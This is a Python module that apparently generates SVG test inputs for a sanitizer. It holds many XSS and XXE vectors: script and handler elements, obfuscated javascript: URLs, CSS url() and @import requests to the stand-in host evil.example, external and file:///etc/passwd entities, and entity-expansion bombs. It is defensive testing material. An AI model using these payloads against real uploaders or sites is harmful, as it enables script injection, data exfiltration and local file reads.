"""Drawings (SVG) that act, or that ask for something: each way in each place where it may stand, in each namespace and
encoding.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

SVG = "http://www.w3.org/2000/svg"
CODE = "window.__xss=alert(1)"
FAR = "http://evil.example/a"

NAMESPACES = {
    "": "",
    "s": f' xmlns:s="{SVG}"',
    "h": ' xmlns:h="http://www.w3.org/1999/xhtml"',
    "t": ' xmlns:t="http://www.w3.org/1999/XSL/Transform"',
    "e": ' xmlns:e="http://www.w3.org/2001/xml-events"',
    "u": ' xmlns:u="urn:unknown"',
}
ACTING = (
    f"<{{0}}script>{CODE}</{{0}}script>",
    f'<{{0}}script href="{FAR}.js"/>',
    f'<{{0}}script src="{FAR}.js"/>',
    f'<{{0}}handler type="text/javascript" event="load">{CODE}</{{0}}handler>',
    '<{0}listener event="load" handler="#x"/>',
    f'<{{0}}foreignObject width="9" height="9"><h:body onload="{CODE}"/></{{0}}foreignObject>',
    f'<{{0}}iframe src="javascript:{CODE}"/>',
    f'<{{0}}embed src="{FAR}"/>',
    f'<{{0}}object data="{FAR}"/>',
    f'<{{0}}img src="{FAR}" onerror="{CODE}"/>',
    f'<{{0}}link rel="stylesheet" href="{FAR}"/>',
    f'<{{0}}meta http-equiv="refresh" content="0;url={FAR}"/>',
    f'<{{0}}base href="{FAR}"/>',
    f'<{{0}}video src="{FAR}" autoplay="autoplay"/>',
    f'<{{0}}audio src="{FAR}" autoplay="autoplay"/>',
    f'<{{0}}form action="{FAR}"><{{0}}input name="password" autofocus="a" onfocus="{CODE}"/></{{0}}form>',
    f'<{{0}}style>@import "{FAR}";</{{0}}style>',
)
HANDLERS = (
    "onload",
    "ONLOAD",
    "onbegin",
    "onend",
    "onrepeat",
    "onclick",
    "onfocusin",
    "onerror",
    "onmouseover",
    "onwheel",
)
DRAWN = ("svg", "g", "a", "path", "rect", "use", "image", "text", "filter", "style", "title", "unknown")
ADDRESSES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f" javascript:{CODE}",
    f"java&#9;script:{CODE}",
    f"java&#10;script:{CODE}",
    f"&#106;avascript:{CODE}",
    f"javascript://example.org/%0A{CODE}",
    f"vbscript:{CODE}",
    f"data:text/html,&lt;script>{CODE}&lt;/script>",
    f"data:image/svg+xml,&lt;svg xmlns='{SVG}' onload='{CODE}'/>",
    "data:image/png;base64,%%%",
    FAR,
    "//evil.example/a",
    "https:evil.example",
    "a.svg#x",
    "/a.svg#x",
    "file:///etc/passwd",
)
LINKING = ("a", "use", "image", "feImage", "linearGradient", "pattern", "textPath", "tref", "mpath", "cursor", "script")
HREFS = ("href", "l:href", "src", "l:src", "data", "xml:base")
REQUESTS = (
    f"url({FAR})",
    f"URL({FAR})",
    f"url( '{FAR}' )",
    f'url("{FAR}")',
    f"url({FAR}#x)",
    "url(a.svg#x)",
    f"url(data:image/svg+xml,x{FAR})",
    f"u\\72l({FAR})",
    f"\\75rl({FAR})",
    f"url(/*#*/{FAR})",
    f"/*url(#*/url({FAR})",
    f"image-set('{FAR}' 1x)",
    f"-webkit-image-set(url({FAR}) 1x)",
    f"src('{FAR}')",
    f"image('{FAR}')",
    f"cross-fade(url({FAR}), red)",
    f"url(#x), url({FAR})",
    f"expression({CODE})",
)
PAINTED = (
    "fill",
    "stroke",
    "filter",
    "mask",
    "clip-path",
    "marker-end",
    "cursor",
    "style",
    "transform",
    "d",
    "font-family",
)
RULES = (
    f'@import "{FAR}";',
    f"@import url({FAR});",
    f"@IMPORT url({FAR});",
    f"@\\69mport '{FAR}';",
    f"/**/@import '{FAR}';",
    f"@font-face{{font-family:x;src:url({FAR})}}",
    f"@namespace url({FAR});",
    f"@media screen{{rect{{fill:url({FAR})}}}}",
    f"<![CDATA[@import '{FAR}';]]>",
    f"@im<!-- -->port '{FAR}';",
    f"&#64;import '{FAR}';",
)
MOVING = ("animate", "set", "animateTransform", "animateMotion", "animateColor", "discard")
MOVED = ("href", "l:href", "onload", "onclick", "style", "fill")
HEADS = (
    f'<?xml-stylesheet href="{FAR}.css"?>',
    f'<?xml-stylesheet type="text/xsl" href="{FAR}.xsl"?>',
    f'<!DOCTYPE svg SYSTEM "{FAR}.dtd">',
    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{FAR}">]>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{FAR}"> %x;]>',
    f'<!DOCTYPE svg [<!ENTITY x "&#60;script>{CODE}&#60;/script>">]>',
    f'<!DOCTYPE svg [<!ENTITY x "http://www.w3.org/&#60;script>{CODE}&#60;/script>">]>',
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{CODE}">]>',
)
ENCODINGS = (
    "utf-8-sig",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "latin-1",
    "utf-32",
    "utf-7",
    "cp037",
    "shift_jis",
    "gb18030",
)


def make_drawing(inside: str = "", *, attributes: str = "", head: str = "") -> str:
    """Makes a drawing with all namespaces declared, and something to be looked at."""
    namespaces = f'xmlns="{SVG}" xmlns:l="http://www.w3.org/1999/xlink"{"".join(NAMESPACES.values())}'
    return f'{head}<svg {namespaces} viewBox="0 0 9 9"{attributes}><path d="M0 0h9"/>{inside}</svg>'


def list_vectors() -> Iterator[bytes]:
    """Lists all drawings."""
    drawings = [
        *(make_drawing(element.format(f"{prefix}:" if prefix else "")) for element in ACTING for prefix in NAMESPACES),
        *(make_drawing(attributes=f' {handler}="{CODE}"') for handler in HANDLERS),
        *(make_drawing(f'<{name} {handler}="{CODE}"/>') for name in DRAWN for handler in HANDLERS),
        *(make_drawing(f'<{n} {href}="{to}"/>') for n in LINKING for href in HREFS for to in ADDRESSES),
        *(make_drawing(f'<a {href}="{to}"><rect width="9" height="9"/></a>') for href in HREFS for to in ADDRESSES),
        *(make_drawing(f'<rect {name}="{_wrap(name, css)}"/>') for name in PAINTED for css in REQUESTS),
        *(make_drawing(f"<style>rect{{fill:{css}}}</style><rect width='9' height='9'/>") for css in REQUESTS),
        *(make_drawing(f"<style>{rule}</style>") for rule in RULES),
        *(make_drawing(_move(name, moved)) for name in MOVING for moved in MOVED),
        *(make_drawing("<text>&x;</text>" if "ENTITY x" in head else "", head=head) for head in HEADS),
    ]
    yield from (drawing.encode() for drawing in drawings)
    yield from (white * 999 + make_drawing(attributes=f' onload="{CODE}"').encode() for white in (b" ", b"\r\n"))
    for encoding in ENCODINGS:
        name = encoding.removesuffix("-sig").removesuffix("-le").removesuffix("-be")
        for inside in ("", f"<script>{CODE}</script>"):
            text = f'<?xml version="1.0" encoding="{name}"?>{make_drawing(inside)}'
            yield text.encode(encoding)
            yield text.encode("ascii")


def _wrap(name: str, css: str) -> str:
    return escape(f"fill:{css}" if name == "style" else css)


def _move(name: str, attribute: str) -> str:
    values = f'values="#;javascript:{CODE}" to="javascript:{CODE}" begin="0s" dur="1ms" fill="freeze"'
    return f'<a><{name} attributeName="{attribute}" {values}/><rect width="9" height="9"/></a>'
